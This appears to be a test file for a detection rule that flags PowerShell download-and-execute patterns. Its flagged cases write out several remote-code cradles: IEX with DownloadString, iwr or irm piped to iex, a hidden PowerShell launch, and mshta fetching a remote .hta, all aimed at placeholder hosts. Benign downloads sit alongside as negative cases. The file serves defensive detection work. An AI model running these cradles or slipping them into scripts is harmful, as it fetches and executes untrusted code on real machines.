# ruleid: powershell-download-and-run
IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')
# ruleid: powershell-download-and-run
iwr https://example.test/a.ps1 | iex
# ruleid: powershell-download-and-run
iex (irm example.test/a)
# ruleid: powershell-download-and-run
powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"
# ruleid: powershell-download-and-run
mshta http://203.0.113.9/a.hta
# ok: powershell-download-and-run
Invoke-WebRequest https://example.test/a.zip -OutFile a.zip
# ok: powershell-download-and-run
Invoke-RestMethod https://api.example.test/items | ConvertTo-Json
# ok: powershell-download-and-run
Get-Content a.ps1
# ok: powershell-download-and-run
msiexec /i setup.msi /qn
# a decoy: IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')
